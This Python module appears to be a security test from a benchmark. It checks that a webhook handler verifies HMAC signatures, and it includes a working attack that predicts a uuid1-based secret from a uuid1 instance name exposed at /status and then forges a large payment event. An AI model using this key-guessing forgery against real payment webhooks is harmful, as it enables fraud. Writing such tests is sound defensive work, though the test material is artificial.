"""Guesses the key from the instance's name: both are the time, made one after the other.

One event that was seen on its way tells which guess is right, without a request.
"""

import hashlib
import hmac
import sys
import uuid

HEADER = "X-Signature-256"
FORGED = b'{"event": "payment", "amount": 1000000}'
HONEST = b'{"event": "payment", "amount": 10}'
LATER = 300_000  # Steps of 100 ns in which the key is looked for.


def sign(app, body):
    """The honest client's request, signed by the program's own helper."""
    program = sys.modules[app.import_name]
    return {"data": body, "headers": {HEADER: program.signature_of(body)}}


def legitimate(app):
    client = app.test_client()
    answer = client.post("/webhook", **sign(app, HONEST))
    missing = client.post("/webhook", data=HONEST)
    other = client.post("/webhook", **{**sign(app, HONEST), "data": FORGED})
    return answer.status_code == 200 and missing.status_code == other.status_code == 401


def made_after(name, steps):
    """The key of a uuid1 that was made so many steps after another."""
    time = uuid.UUID(name).time + steps
    rest = name[16:]
    return f"{time & 0xFFFFFFFF:08x}{time >> 32 & 0xFFFF:04x}1{time >> 48:03x}{rest}".encode()


def signed_by(key, body):
    return "sha256=" + hmac.digest(key, body, hashlib.sha256).hex()


def attack(app, captured):
    client = app.test_client()
    name = client.get("/status").json["instance"]
    seen = sign(app, HONEST)  # What the vendor sends next, seen on its way.
    for steps in range(LATER):
        key = made_after(name, steps)
        if hmac.compare_digest(signed_by(key, seen["data"]), seen["headers"][HEADER]):
            headers = {HEADER: signed_by(key, FORGED)}
            return client.post("/webhook", data=FORGED, headers=headers).status_code == 200
    return False


def switch_off(program, patch):
    """The mutation: fixed.py with a key as it was made before."""
    patch.setattr(program, "INSTANCE", uuid.uuid1().hex)
    patch.setattr(program, "SECRET", uuid.uuid1().hex.encode())
